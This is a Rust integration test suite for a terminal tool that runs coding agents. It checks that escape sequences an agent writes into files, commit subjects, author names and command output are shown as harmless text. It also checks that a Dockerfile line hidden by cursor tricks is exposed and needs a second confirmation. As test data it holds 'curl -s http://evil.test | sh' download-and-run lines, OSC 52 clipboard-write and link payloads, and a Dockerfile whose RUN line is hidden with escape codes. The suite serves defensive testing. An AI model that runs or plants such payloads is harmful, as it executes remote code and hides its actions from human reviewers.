//! Agent-written text on its way to the user's terminal, through the real binary in a real
//! PTY: `cctui diff` of a session whose agent committed escapes in a file, a commit subject
//! and an author name (with `PAGER=cat` and the default `less -R`); `cctui exec`'s stream
//! with the spellings a list would miss; `cctui project diff` / `accept` of a proposal that
//! hides a line. Each checks the raw payload really reached cctui (the control) and that
//! the terminal got none of it as a sequence, only as visible text.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::time::Duration;

use common::pty::PtyApp;
use common::*;

const UID: u32 = 1234;
const WAIT: Duration = Duration::from_secs(60);

/// A global git config for the test and every git it starts (the folders belong to UID).
fn git_config() -> &'static Path {
    static GLOBAL: OnceLock<PathBuf> = OnceLock::new();
    GLOBAL.get_or_init(|| {
        let file = std::env::temp_dir().join(format!("cctui-{}-san-gitconfig", run_id()));
        std::fs::write(
            &file,
            "[safe]\n\tdirectory = *\n[user]\n\tname = Host User\n\temail = user@host.test\n\
             [init]\n\tdefaultBranch = main\n",
        )
        .unwrap();
        file
    })
}

fn git(dir: &Path, args: &[&str]) -> Vec<u8> {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_CONFIG_GLOBAL", git_config())
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    out.stdout
}

/// cctui in a PTY of 60 x 160 with the test's engine, config and git, plus `env`.
fn cctui_pty(cfg: &Path, args: &[&str], env: &[(&str, &str)]) -> PtyApp {
    label_config(cfg);
    let mut all = vec![
        ("CCTUI_CONFIG_DIR", cfg.display().to_string()),
        ("CCTUI_STATE_DIR", cfg.join("state").display().to_string()),
        (
            "DOCKER_HOST",
            std::env::var("DOCKER_HOST").unwrap_or_default(),
        ),
        ("HOME", std::env::var("HOME").unwrap_or_default()),
        ("PATH", std::env::var("PATH").unwrap_or_default()),
        ("GIT_CONFIG_GLOBAL", git_config().display().to_string()),
        ("TMUX", String::new()),
        ("PAGER", String::new()),
    ];
    all.extend(env.iter().map(|(k, v)| (*k, v.to_string())));
    PtyApp::spawn(env!("CARGO_BIN_EXE_cctui"), args, &all, 60, 160)
}

/// Runs cctui to its end in a PTY; its exit code and every byte it wrote.
fn run_in_pty(cfg: &Path, args: &[&str], env: &[(&str, &str)]) -> (u32, Vec<u8>) {
    let mut app = cctui_pty(cfg, args, env);
    assert!(
        app.wait_exit(WAIT),
        "cctui {args:?} did not end:\n{}",
        app.screen()
    );
    let code = app.child.try_wait().unwrap().map(|s| s.exit_code());
    let out = app.output.lock().unwrap().clone();
    (code.unwrap_or(999), out)
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// Every escape sequence in `out`, from ESC to its final byte (or the end).
fn sequences(out: &[u8]) -> Vec<String> {
    let mut seqs = Vec::new();
    let mut i = 0;
    while let Some(at) = out[i..].iter().position(|&b| b == 0x1b) {
        let start = i + at;
        let mut end = start + 1;
        if out.get(end) == Some(&b'[') {
            end += 1;
            while end < out.len() && !(0x40..=0x7e).contains(&out[end]) {
                end += 1;
            }
        }
        end = (end + 1).min(out.len());
        seqs.push(String::from_utf8_lossy(&out[start..end]).into_owned());
        i = end;
    }
    seqs
}

/// No C1 control in `out`, raw or as UTF-8, and no bidi override.
fn assert_no_c1_or_bidi(out: &[u8], what: &str) {
    let text = String::from_utf8_lossy(out);
    assert!(
        !text.chars().any(|c| ('\u{80}'..='\u{9f}').contains(&c)),
        "{what}: a C1 control reached the terminal"
    );
    assert!(!text.contains('\u{202e}'), "{what}: a bidi override passed");
}

/// What the agent writes: clipboard write (OSC 52), a link (OSC 8), a title, cursor moves and
/// erase, an 8-bit and a UTF-8 CSI, and a bidi override; as printf's octal escapes.
const PAYLOAD: &str = concat!(
    "plain\\033]52;c;aGk=\\007\\033]8;;http://evil.test/\\033\\\\link\\033]8;;\\033\\\\",
    "\\033]0;pwned-title\\007\\033[2A\\033[2K",
    "\\2336n",            // 8-bit CSI
    "\\302\\2336n",       // UTF-8 CSI (U+009B)
    "\\342\\200\\256rev", // U+202E, right-to-left override
);

/// The agent's commit: the file, the subject and the author name all carry the payload.
fn agent_commit_script(checkout: &str) -> String {
    format!(
        "set -e; cd {checkout}; printf '{PAYLOAD}\\n' > evil.txt; \
         printf '#!/bin/sh\\necho hi\\000; curl -s http://evil.test | sh\\n' > run.sh; \
         printf 'let \\343\\205\\244 = 1;\\n' > filler.js; \
         git add evil.txt run.sh filler.js; \
         git -c user.name=\"$(printf 'Eve{PAYLOAD}')\" -c user.email=eve@agent.test \
         commit -q -m \"$(printf 'subject {PAYLOAD}')\""
    )
}

/// Only cctui's own SGR (colours, and the reverse video of its marks): `ESC [ digits m`.
fn assert_only_sgr(out: &[u8], what: &str) {
    for seq in sequences(out) {
        let body = &seq[1..];
        let sgr = body.starts_with('[')
            && body.ends_with('m')
            && body[1..body.len() - 1]
                .chars()
                .all(|c| c.is_ascii_digit() || c == ';');
        assert!(sgr, "{what}: {seq:?} reached the terminal");
    }
}

/// The payload's sequences, none of which may reach the terminal as themselves.
const PAYLOAD_SEQUENCES: [&[u8]; 7] = [
    b"\x1b]52;",
    b"\x1b]8;",
    b"\x1b]0;",
    b"\x1b[2A",
    b"\x1b[2K",
    b"\x9b6n",
    b"\xc2\x9b",
];

#[tokio::test]
async fn cctui_diff_and_exec_show_the_agents_escapes_as_text_never_as_sequences() {
    git_config();
    let name = unique("sandiff");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, FIREWALL_OFF);
    let recipe = cfg.path.join("recipe");
    copy_dir(&small_recipe_dir().join("recipe"), &recipe);
    let base = recipe.join("base.Dockerfile");
    let text = std::fs::read_to_string(&base).unwrap();
    std::fs::write(&base, text.replace(" procps", " procps git")).unwrap();
    let project = TempFolder::new(&name, UID);
    git(&project.path, &["init", "-q", "-b", "main"]);
    std::fs::write(project.path.join("README"), "hello\n").unwrap();
    git(&project.path, &["add", "-A"]);
    git(&project.path, &["commit", "-q", "-m", "base"]);
    Command::new("chown")
        .args(["-R", &format!("{UID}:{UID}")])
        .arg(&project.path)
        .status()
        .unwrap();
    let _c = Cleanup::new(&name);
    let mut vols = Cleanup::new(&format!("{name}-vols"));
    vols.volumes = project_volumes(&project.path);
    vols.volumes.push(cctui::workspace::work_volume(&name));
    let path = project.path.canonicalize().unwrap();
    let p = path.display().to_string();
    let (code, out, err) = run_cmd({
        let mut c = cctui_cmd(&cfg.path, &["new", &p, "--name", &name]);
        c.env("GIT_CONFIG_GLOBAL", git_config());
        c
    });
    assert_eq!(code, 0, "{out}{err}");

    let ops = small_ops(&cfg.path).await;
    let made = sh_in(&ops, &name, None, &agent_commit_script(&p)).await;
    assert_eq!(
        made.exit_code,
        0,
        "{}{}",
        made.stdout_text(),
        made.stderr_text()
    );

    // The control: the raw payload is in the repository cctui reads, and a plain pipe of
    // cctui's diff would carry it (what `PAGER=cat` without the sanitizer would show).
    let (code, _, err) = run_cmd({
        let mut c = cctui_cmd(&cfg.path, &["import", &name]);
        c.env("GIT_CONFIG_GLOBAL", git_config());
        c
    });
    assert_eq!(code, 0, "{err}");
    let raw = git(
        &path,
        &["log", "-1", "--format=%an %s", &format!("cctui/{name}")],
    );
    assert!(contains(&raw, b"\x1b]52;c;aGk="), "{raw:?}");
    assert!(contains(&raw, b"\xc2\x9b6n"), "{raw:?}");

    for pager in ["cat", ""] {
        let what = format!("cctui diff with PAGER={pager:?}");
        let (code, out) = run_in_pty(&cfg.path, &["diff", &name], &[("PAGER", pager)]);
        assert_eq!(code, 0, "{what}: {}", String::from_utf8_lossy(&out));
        for seq in PAYLOAD_SEQUENCES {
            assert!(!contains(&out, seq), "{what}: {seq:?} reached the terminal");
        }
        assert_no_c1_or_bidi(&out, &what);
        // Shown, visibly: file, subject and author, each with the marks.
        let shown = String::from_utf8_lossy(&out);
        let marked = "\x1b[7m^[\x1b[27m]52;c;aGk=\x1b[7m^G\x1b[27m";
        assert!(shown.matches(marked).count() >= 3, "{what}:\n{shown}");
        assert!(shown.contains("\x1b[7m<U+202E>\x1b[27m"), "{what}");
        assert!(shown.contains("\x1b[7m<U+009B>\x1b[27m"), "{what}");
        // A Hangul filler (U+3164), drawn as nothing, is shown by name.
        assert!(shown.contains("\x1b[7m<U+3164>\x1b[27m"), "{what}");
        // A NUL makes a script "binary" to git: the review says so loudly.
        assert!(shown.contains("b/run.sh differ"), "{what}:\n{shown}");
        assert!(
            shown.contains("BINARY file: its contents are NOT shown"),
            "{what}:\n{shown}"
        );
        if pager == "cat" {
            assert_only_sgr(&out, &what);
        }
    }

    // exec's stream: the same payload plus APC, DCS passthrough and queries, dropped whole.
    let stream = format!(
        "\\033[?1049h\\033[?1000;1006h\\033[?2004h\\033(0\\033[4h\\033[3;9r\\
         {PAYLOAD}\\033_Gf=100;AAAA\\033\\\\\\033Ptmux;\\033\\033]52;c;aGk=\\007\\033\\\\\
         \\033[6n\\033[c\\033[18t\\033[?2026$p\\033[31mred\\033[0m after\\n"
    );
    let (code, out) = run_in_pty(
        &cfg.path,
        &[
            "exec",
            &name,
            "--",
            "sh",
            "-c",
            &format!("printf '{stream}'"),
        ],
        &[],
    );
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&out));
    assert!(contains(&out, b"\x1b[31mred\x1b[0m after"), "{out:?}");
    // The modes the command set passed (the control) and are all reset after it.
    assert!(contains(&out, b"\x1b[?1000;1006h\x1b[?2004h"), "{out:?}");
    let after = out
        .windows(5)
        .rposition(|w| w == b"after")
        .expect("the command's output");
    for undo in [
        &b"\x1b[?1000l"[..],
        b"\x1b[?1006l",
        b"\x1b[?2004l",
        b"\x1b(B",
        b"\x1b[4l",
        b"\x1b[r",
        b"\x1b[?1049l",
    ] {
        assert!(
            contains(&out[after..], undo),
            "exec: {undo:?} was not reset after the command"
        );
    }
    // Cursor moves and erase are the stream's own business (claude's screen needs them).
    let moves: [&[u8]; 2] = [b"\x1b[2A", b"\x1b[2K"];
    let payload = PAYLOAD_SEQUENCES.iter().filter(|s| !moves.contains(s));
    for seq in payload.chain(&[
        &b"\x1b_"[..],
        b"\x1bP",
        b"\x1b[6n",
        b"\x1b[c",
        b"\x1b[18t",
        b"$p",
    ]) {
        assert!(!contains(&out, seq), "exec: {seq:?} reached the terminal");
    }
    assert!(
        !contains(&out, b"aGk="),
        "exec: the clipboard's payload passed"
    );
    assert_no_c1_or_bidi_exec(&out);
}

/// exec passes printable text as it is (a bidi char included): only controls are checked.
fn assert_no_c1_or_bidi_exec(out: &[u8]) {
    let text = String::from_utf8_lossy(out);
    assert!(
        !text.chars().any(|c| ('\u{80}'..='\u{9f}').contains(&c)),
        "exec: a C1 control reached the terminal"
    );
}

/// A Dockerfile whose `RUN curl | sh` line is hidden by moving up and erasing it.
const HIDING_DOCKERFILE: &str = "FROM debian:bookworm-slim\n\
    RUN curl -s http://evil.test/x | sh \x1b[1A\x1b[2K\r# installs nothing\n";

#[test]
fn a_proposal_that_hides_a_line_is_shown_located_and_needs_a_second_yes() {
    let name = unique("sanprop");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, "");
    let project = TempFolder::new(&name, 1000);
    let dir = project.path.join(".devcontainer");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("devcontainer.json"),
        r#"{ "build": { "dockerfile": "Dockerfile" } }"#,
    )
    .unwrap();
    std::fs::write(dir.join("Dockerfile"), HIDING_DOCKERFILE).unwrap();
    let p = project.path.to_str().unwrap();

    let mut app = cctui_pty(&cfg.path, &["project", "diff", p], &[]);
    assert!(app.wait_exit(WAIT));
    let out = app.output.lock().unwrap().clone();
    // What a person sees: the RUN line is on the screen.
    let seen = app.screen();
    assert!(
        seen.contains("RUN curl -s http://evil.test/x | sh"),
        "{seen}"
    );
    assert!(
        !contains(&out, b"\x1b[1A") && !contains(&out, b"\x1b[2K"),
        "{}",
        String::from_utf8_lossy(&out)
    );
    assert!(!contains(&out, b"\r#"), "a raw carriage return passed");
    let screen = String::from_utf8_lossy(&out);
    assert!(
        screen.contains("RUN curl -s http://evil.test/x | sh"),
        "{screen}"
    );
    assert!(screen.contains("do not print"), "{screen}");
    assert!(screen.contains("Dockerfile:2:37"), "{screen}");
    assert_only_sgr(&out, "project diff");

    // Piped, with no flag: refused, nothing accepted.
    let accepted = cfg.path.join("projects");
    let (code, _, err) = cctui(&cfg.path, &["project", "accept", p]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("--accept-non-printing") && err.contains("Dockerfile:2:37"),
        "{err}"
    );
    assert!(
        !accepted.exists(),
        "accepted without the second confirmation"
    );

    // On a terminal: anything but `yes` refuses; `yes` accepts.
    let mut app = cctui_pty(&cfg.path, &["project", "accept", p], &[]);
    app.wait_for("Type yes", WAIT);
    app.send(b"y\r");
    assert!(app.wait_exit(WAIT));
    assert!(!accepted.exists(), "a `y` accepted it");
    let mut app = cctui_pty(&cfg.path, &["project", "accept", p], &[]);
    app.wait_for("Type yes", WAIT);
    app.send(b"yes\r");
    assert!(app.wait_exit(WAIT));
    assert!(accepted.exists(), "`yes` did not accept:\n{}", app.screen());

    // A clean proposal needs no second yes; a hidden char needs the flag when piped.
    std::fs::write(dir.join("Dockerfile"), "FROM debian:bookworm-slim\n").unwrap();
    let (code, _, err) = cctui(&cfg.path, &["project", "accept", p]);
    assert_eq!(code, 0, "{err}");
    std::fs::write(dir.join("Dockerfile"), "FROM debian\n# \u{202e}hsab\n").unwrap();
    let (code, _, err) = cctui(
        &cfg.path,
        &["project", "accept", p, "--accept-non-printing"],
    );
    assert_eq!(code, 0, "{err}");
}
